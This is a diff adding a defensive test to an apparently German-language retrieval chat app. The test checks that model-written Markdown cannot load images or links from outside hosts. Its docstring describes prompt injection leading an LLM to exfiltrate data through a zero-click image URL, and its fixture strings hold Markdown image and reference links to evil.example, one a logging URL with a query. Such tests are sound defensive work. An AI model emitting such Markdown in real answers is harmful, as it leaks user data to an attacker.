@@ -68,6 +68,24 @@ def test_article_html_is_escaped_in_answers(answerer):
         assert "<img" not in page and "<script" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
 
 
+def test_model_text_cannot_make_the_page_load_an_image_or_link_elsewhere(answerer):
+    """An injected instruction may make the LLM write Markdown that loads an image (no click needed) whose address
+    carries what it wants out. Rendered as CommonMark, as the chat does, nothing but the citation links remains."""
+    from markdown_it import MarkdownIt
+
+    from app import LABELS, format_answer
+    from rag.schema import Answer, Article, Chunk, Citation, Hit
+
+    article = Article("a", "Titel ![t](https://evil.example/t.png)", "Nordkorea schickt 6.000 Pioniere.", "a.txt")
+    hit = Hit(Chunk("c", "a", 0, article.text, 0, len(article.text)), article, 0.9, 1)
+    text = ("Nordkorea schickt 6.000 Pioniere [1]. ![Karte][r] [mehr](https://evil.example/a) [x][r] "
+            "![b](https://evil.example/b.png)\n\n[r]: https://evil.example/log?q=Pioniere")
+    html = MarkdownIt("commonmark").render(format_answer(Answer(text, True, "llm", (Citation(1, hit, article.text),)),
+                                                         LABELS["de"]))
+    assert "<img" not in html and 'href="https://evil' not in html
+    assert '<a href="#src-1">[1]</a>' in html and "![Karte][r]" in html  # shown as the text it is
+
+
 def test_page_without_an_index_says_to_run_the_ingest_job(tmp_path):
     from gradio_client import Client
 
